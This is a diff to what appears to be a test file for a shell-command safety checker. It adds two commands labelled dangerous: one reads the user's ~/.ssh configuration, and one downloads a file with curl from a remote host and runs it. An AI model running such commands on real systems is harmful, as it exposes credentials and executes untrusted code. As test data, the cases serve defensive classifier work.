@@ -38,6 +38,12 @@ safe C7
     echo "$(<notes.txt)"
     while read -r x; do echo "$x"; done < notes.txt
 
+dangerous C5.4
+    cat config; cd ~/.ssh; cat config
+
+dangerous C7
+    ./x; curl -o x http://example.org/x; ./x
+
 dangerous C1.1
     ls «\u0000»
     echo a«\u0007»b
